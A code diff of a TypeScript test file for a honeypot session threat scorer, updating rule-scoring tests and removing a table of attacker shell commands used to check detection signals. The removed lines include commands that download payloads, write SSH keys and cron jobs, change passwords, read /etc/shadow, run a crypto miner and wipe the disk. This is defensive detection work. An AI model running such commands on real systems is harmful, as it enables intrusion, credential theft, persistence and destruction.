@@ -1,22 +1,13 @@
 import fc from 'fast-check'
-import { describe, expect, test } from 'vitest'
-import { anEvent } from '../../testing/events.js'
-import type { AttackerHistory } from './attacker-history.js'
+import { expect, test } from 'vitest'
 import { describeReason } from './reasons.js'
 import { createRuleScorer } from './rules.js'
 import { safeScorer } from './safe-scorer.js'
 import { levelOf } from './scorer.js'
 import type { SessionFacts } from './session-facts.js'
-import { signalNamed, signalsOf } from './signals.js'
+import { signalNamed } from './signals.js'
 
 const rules = createRuleScorer()
-const history: AttackerHistory = {
-  first_seen_at: '2026-03-22T12:00:00.000000Z',
-  event_count: 1,
-  session_count: 1,
-  sensor_ids: ['cowrie-1'],
-  signals: [],
-}
 const nothing: SessionFacts = {
   event_count: 1,
   login_attempt_count: 0,
@@ -25,6 +16,7 @@ const nothing: SessionFacts = {
   file_count: 0,
   proxy_request_count: 0,
   signals: [],
+  techniques: [],
   clients: [],
   credential_sketch: [],
   started_at: '2026-03-22T12:00:00.000000Z',
@@ -41,15 +33,30 @@ const names = [
 ]
 
 test('contact alone is low, a brute force medium at most, an implant critical', () => {
-  expect(rules.score(nothing, history).threat_level).toBe('low')
-  expect(rules.score({ ...nothing, login_attempt_count: 1000 }, history).threat_level).toBe('medium')
+  expect(rules.score(nothing).threat_level).toBe('low')
+  expect(rules.score({ ...nothing, login_attempt_count: 1000 }).threat_level).toBe('medium')
   const implant = {
     ...nothing,
     login_success_count: 1,
     command_count: 5,
     signals: ['download_command', 'execution', 'persistence'],
   }
-  expect(rules.score(implant, history)).toMatchObject({ threat_level: 'critical', scorer: 'rules-1' })
+  expect(rules.score(implant)).toMatchObject({ threat_level: 'critical', scorer: 'rules-2' })
+})
+
+test('counts alone make no session high; critical takes staying, harming or a canary', () => {
+  const busy = {
+    ...nothing,
+    login_attempt_count: 9,
+    login_success_count: 1,
+    command_count: 500,
+    file_count: 0,
+  }
+  expect(rules.score({ ...busy, signals: ['discovery'] }).threat_level).toBe('medium')
+  expect(rules.score({ ...busy, signals: ['discovery', 'download_command', 'execution'] }).threat_level).toBe(
+    'high',
+  )
+  expect(rules.score({ ...busy, signals: ['persistence'] }).threat_level).toBe('critical')
 })
 
 test('a score is within 0..1, has its level, and is the sum of its reasons', () => {
@@ -64,7 +71,7 @@ test('a score is within 0..1, has its level, and is the sum of its reasons', () 
   })
   fc.assert(
     fc.property(facts, (given) => {
-      const { threat_score, threat_level, reasons } = rules.score({ ...nothing, ...given }, history)
+      const { threat_score, threat_level, reasons } = rules.score({ ...nothing, ...given })
       expect(threat_score).toBeGreaterThanOrEqual(0)
       expect(threat_score).toBeLessThanOrEqual(1)
       expect(threat_level).toBe(levelOf(threat_score))
@@ -88,49 +95,17 @@ test('doing more never lowers a score', () => {
       fc.nat(1000),
       fc.nat(1000),
       (signals, count, some, more) => {
-        const before = rules.score({ ...nothing, signals, [count]: some }, history)
-        const after = rules.score(
-          { ...nothing, signals: [...signals, 'persistence'], [count]: some + more },
-          history,
-        )
+        const before = rules.score({ ...nothing, signals, [count]: some })
+        const after = rules.score({ ...nothing, signals: [...signals, 'persistence'], [count]: some + more })
         expect(after.threat_score).toBeGreaterThanOrEqual(before.threat_score)
       },
     ),
   )
 })
 
-describe('signals in commands', () => {
-  test.each([
-    ['uname -a', 'discovery'],
-    ['cd /tmp; wget http://192.0.2.1/a', 'download_command'],
-    ['cat < /dev/tcp/192.0.2.1/80', 'download_command'],
-    ['chmod 0777 a', 'execution'],
-    ['./a', 'execution'],
-    ['echo key >> ~/.ssh/authorized_keys', 'persistence'],
-    ['(crontab -l; echo x) | crontab -', 'persistence'],
-    ['echo root:x | chpasswd', 'account_manipulation'],
-    ['history -c', 'defense_evasion'],
-    ['cat /etc/shadow', 'credential_access'],
-    ["ps | grep '[Mm]iner'", 'discovery'],
-    ['./xmrig -o stratum+tcp://192.0.2.1:3333', 'resource_hijacking'],
-    ['rm -rf /', 'destruction'],
-    ['echo -e "\\x6F\\x6B\\x6F\\x6B"', 'encoded_payload'],
-    ['ssh root@192.0.2.1', 'lateral_movement'],
-  ])('%s shows %s', (command, signal) => {
-    expect(signalsOf(anEvent({ event_type: 'command', command }))).toContain(signal)
-  })
-
-  test.each([['echo hello'], ['ls'], ['exit'], ['cat /etc/passwd.txt.bak.example']])(
-    '%s changes no accounts',
-    (command) => {
-      expect(signalsOf(anEvent({ event_type: 'command', command }))).not.toContain('account_manipulation')
-    },
-  )
-})
-
 test('every reason explains itself and names ATT&CK techniques in their own form', () => {
   for (const name of [...names, 'contact', 'login_attempts', 'login_success', 'commands', 'many_files']) {
-    const { description, techniques } = describeReason({ name, contribution: 0.1 })
+    const { description, techniques } = describeReason({ name, contribution: 0.1 }, new Set())
     expect(description).not.toContain('earlier version')
     for (const technique of techniques) expect(technique).toMatch(/^T\d{4}(\.\d{3})?$/)
   }
@@ -146,10 +121,8 @@ test('a model that throws is replaced by rules for that session and reported; no
     },
   }
   const report = (error: unknown) => failures.push(error)
-  expect(safeScorer(() => broken, rules, report).score(nothing, history)).toEqual(
-    rules.score(nothing, history),
-  )
-  expect(safeScorer(() => null, rules, report).score(nothing, history)).toEqual(rules.score(nothing, history))
-  expect(safeScorer(() => broken, broken, report).score(nothing, history)).toMatchObject({ scorer: 'none' })
+  expect(safeScorer(() => broken, rules, report).score(nothing)).toEqual(rules.score(nothing))
+  expect(safeScorer(() => null, rules, report).score(nothing)).toEqual(rules.score(nothing))
+  expect(safeScorer(() => broken, broken, report).score(nothing)).toMatchObject({ scorer: 'none' })
   expect(failures).toHaveLength(3)
 })
